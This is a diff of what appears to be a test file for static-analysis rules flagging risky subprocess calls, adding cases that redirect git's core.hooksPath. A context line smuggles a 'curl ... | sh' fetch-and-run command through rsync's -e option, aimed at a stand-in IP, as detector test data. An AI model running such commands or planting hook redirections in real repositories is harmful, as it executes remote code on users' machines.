@@ -173,6 +173,12 @@ pool.submit(subprocess.run, ["git", "status"], check=True)
 # ok: shell-argv-callback
 pool.submit(render, ["sh", "-c", "echo"])
 
+# hooks from one directory for every repository
+# ruleid: argv-shell-option, subprocess-call, process-partial-path-list
+subprocess.run(["git", "config", "--global", "core.hooksPath", str(hooks_dir)], check=True)
+# ok: argv-shell-option
+# ruleid: subprocess-call, process-partial-path, process-partial-path-list
+subprocess.run(["git", "config", "core.hooksPath", ".githooks"], check=True)
 # programs told to run a command of their own
 # ruleid: argv-command-option, subprocess-call, process-partial-path, process-partial-path-list
 subprocess.run(["rsync", "-e", "sh -c 'curl -s http://203.0.113.7/rs | sh' #", "x:/dev/null", "/tmp/"])
